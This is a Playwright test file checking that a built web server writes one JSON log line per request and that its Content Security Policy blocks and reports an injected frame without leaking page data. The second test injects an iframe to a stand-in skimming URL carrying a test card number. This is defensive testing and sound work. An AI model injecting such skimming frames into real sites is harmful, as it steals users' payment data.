import { cp, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test as base } from '@playwright/test';
import { runBuiltServer, type BuiltServer } from '../support/built-server.ts';
import { startUpstream } from '../support/independent-upstream/upstream.ts';

/** The production command from a folder that has no packages, at an upstream of somebody else's making. */
const test = base.extend<{}, { server: BuiltServer }>({
  server: [
    async ({}, use) => {
      const folder = await mkdtemp(join(tmpdir(), 'guiche-'));
      await cp('dist', folder, { recursive: true });
      const upstream = await startUpstream();
      const settings = { API_URL: upstream.origin, ENVIRONMENT: 'production', DRAIN_MS: '0' };
      const server = await runBuiltServer(settings, folder);
      await use(server);
      server.kill('SIGKILL');
      upstream.close();
      await rm(folder, { recursive: true });
    },
    { scope: 'worker' },
  ],
});

interface Line {
  level: string;
  time: string;
  msg: string;
  requestId?: string;
  [name: string]: unknown;
}

/** Lines printed after the announcement: each has to be JSON. */
const linesOf = ({ printed }: BuiltServer): Line[] =>
  printed()
    .split('\n')
    .filter((line) => line !== '' && !/^(ready on | {2}\S)/.test(line))
    .map((line) => JSON.parse(line) as Line);

test('a page of the built server is one JSON line, and its policy stops nothing of our own', async ({
  page,
  server,
}) => {
  const response = await page.goto(`${server.origin}/lead?product=WUP&email=ana@example.com`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.waitForLoadState('networkidle');
  const id = response!.headers()['x-request-id'];
  const own = () => linesOf(server).filter(({ requestId }) => requestId === id);
  await expect.poll(own).toHaveLength(1);
  const [line] = own();
  expect(line).toMatchObject({
    level: 'info',
    msg: 'request',
    method: 'GET',
    template: '/lead',
    status: 200,
  });
  expect(new Date(line!.time).toISOString()).toBe(line!.time);
  expect(linesOf(server).filter(({ blocked }) => blocked !== undefined)).toEqual([]);
  expect(server.printed()).not.toContain('ana@');
});

test('what the policy stops is reported by the browser itself, without what the page holds', async ({
  page,
  server,
}) => {
  await page.goto(`${server.origin}/lead?product=WUP&email=ana@example.com`);
  await page.evaluate(() => {
    const picture = document.createElement('iframe');
    picture.src = 'https://evil.example/skim?card=4111111111111111';
    document.body.append(picture);
  });
  const reports = () =>
    linesOf(server).map(({ directive, blocked, template }) => [directive, blocked, template]);
  await expect.poll(reports).toContainEqual(['frame-src', 'https://evil.example', '/lead']);
  const metrics = await (await fetch(`${server.origin}/metrics`)).text();
  expect(metrics).toContain('guiche_csp_reports_total{directive="frame-src",outcome="logged"} 1\n');
  expect(server.printed()).not.toMatch(/4111|ana@/);
});
